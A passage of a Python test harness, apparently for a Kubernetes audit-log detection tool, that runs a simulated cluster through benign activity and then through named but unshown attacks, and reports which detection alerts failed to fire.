    """Every attack of `attacks`, then which detections did not match or are not Firing."""
    before = library_alerts(cluster)
    since = datetime.now(UTC)
    with FakeKubelet(cluster.root / "kubelet.crt", cluster.root / "kubelet.key") as kubelet:
        cluster.apply(json.dumps(kubelet.node("node-1")))
        cluster.apply(
            json.dumps(
                {
                    "apiVersion": "v1",
                    "kind": "Pod",
                    "metadata": {"name": NODE_POD, "namespace": "shop"},
                    "spec": {
                        "nodeName": "node-1",
                        "automountServiceAccountToken": False,
                        "containers": [{"name": "web", "image": "nginx"}],
                    },
                }
            )
        )
        for what, action in attacks(cluster):
            print(f"attack: {what}", file=sys.stderr)
            action()
    settle()
    until = datetime.now(UTC)
    after = library_alerts(cluster)
    rows, missed, new_matches = [], [], {}
    for name, resource in sorted(after.items()):
        status = resource.get("status", {})
        delta = int(status.get("matches", 0)) - int(
            before[name].get("status", {}).get("matches", 0)
        )
        new_matches[name] = delta
        state = str(status.get("state"))
        if delta <= 0 or state != "Firing":
            missed.append(name)
        rows.append(f"{name:42} {delta:5}  {state}")
    header = f"{'alert':42} {'new matches':>5}  state"
    return AttackReport(missed, "\n".join([header, *rows]), new_matches, since, until)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--seconds", type=float, default=75, help="steady state (default 75)")
    parser.add_argument(
        "--report-only",
        action="store_true",
        help="exit 0 even if a medium-or-higher detection fired on the steady state",
    )
    parser.add_argument(
        "--attacks", action="store_true", help="then run the attacks and check every detection"
    )
    parser.add_argument("--keep", type=Path, help="run in this directory and keep it (logs, data)")
    args = parser.parse_args()
    missing = missing_controllers()
    if missing is not None:
        print(f"cannot run: {missing}", file=sys.stderr)
        return 2
    with workdir(args.keep) as root:
        started = time.monotonic()
        cluster = start(root, controllers=True, users=[*PEOPLE, ATTACKER])
        try:
            result = run_benign(cluster, args.seconds)
            seconds = (result.until - result.since).total_seconds()
            print(
                f"steady state: {seconds:.0f} s, {result.events} audit events stored; "
                f"simulated add-ons: {len(ADDONS)} components, people: {len(PEOPLE)}"
            )
            print(result.table())
            for error in result.errors:
                print(f"simulation error: {error}", file=sys.stderr)
            status = 0
            if result.notable:
                names = ", ".join(a.name for a in result.notable)
                print(f"\nmedium-or-higher detections fired on the benign steady state: {names}")
                status = 0 if args.report_only else 1
            if args.attacks:
                attack = run_attacks(cluster)
                print("\nattacks:")
                print(attack.table)
                if attack.missed:
                    print(f"\ndetections that did not fire on their attack: {attack.missed}")
                    status = 1
            print(f"\nruntime: {time.monotonic() - started:.0f} s")
            return status
        finally:
            cluster.stop()


@contextmanager
def workdir(keep: Path | None) -> Iterator[Path]:
    if keep is not None:
        keep.mkdir(parents=True, exist_ok=True)
        yield keep
        return
    with tempfile.TemporaryDirectory(prefix="auditwatch-noise-") as directory:
        yield Path(directory)


if __name__ == "__main__":
    sys.exit(main())
